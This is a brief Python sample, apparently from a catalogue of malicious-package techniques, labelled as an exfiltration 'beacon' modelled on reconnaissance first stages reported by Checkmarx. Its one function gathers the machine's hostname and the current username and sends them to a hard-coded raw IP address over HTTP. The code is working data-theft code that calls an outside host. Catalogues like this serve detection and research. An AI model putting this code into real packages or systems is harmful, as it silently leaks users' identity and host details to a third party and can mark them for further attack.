# technique: beacon with hostname/user/IP to a raw IP address (fingerprinting first stage)
# class: exfiltration
# source: Checkmarx, "SentinelSneak" and similar reconnaissance first stages
# declares: network
import getpass
import socket
import urllib.request


def register():
    info = f"h={socket.gethostname()}&u={getpass.getuser()}".encode()
    urllib.request.urlopen("http://146.70.87.111:8000/reg", data=info, timeout=5)
